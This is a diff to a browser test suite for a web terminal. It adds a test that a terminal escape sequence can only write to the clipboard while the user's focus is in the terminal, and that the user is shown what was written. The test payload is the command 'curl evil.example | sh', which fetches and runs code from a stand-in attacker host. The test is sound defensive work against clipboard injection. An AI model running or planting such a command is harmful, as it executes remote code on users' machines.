@@ -137,6 +137,26 @@ describe("what an old output did to the browser", () => {
   });
 });
 
+describe("a program that copies", () => {
+  test("does so only where the person is, and they see what", async () => {
+    const terminal = await open({ permissions: ["clipboard-read", "clipboard-write"] });
+    const { page } = terminal;
+    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
+    await page.evaluate(() => navigator.clipboard.writeText("mine"));
+    const socket = await broker.socket();
+    socket.ready();
+    const copy = `\x1b]52;c;${Buffer.from("curl evil.example | sh\n").toString("base64")}\x07`;
+    await page.locator("#details-button").focus();
+    socket.write(0, copy);
+    await page.locator("#notice", { hasText: "was not let, as you were not in the terminal: “curl evil.example | sh ”" }).waitFor();
+    assert.equal(await clipboard(), "mine");
+    await page.locator("#terminal .xterm-helper-textarea").focus();
+    socket.write(copy.length, copy);
+    await page.locator("#notice", { hasText: "put text on your clipboard: “curl evil.example | sh ”" }).waitFor();
+    assert.equal(await clipboard(), "curl evil.example | sh\n");
+  });
+});
+
 describe("output", () => {
   test("is acknowledged as it is parsed, and never further", async () => {
     const terminal = await open();
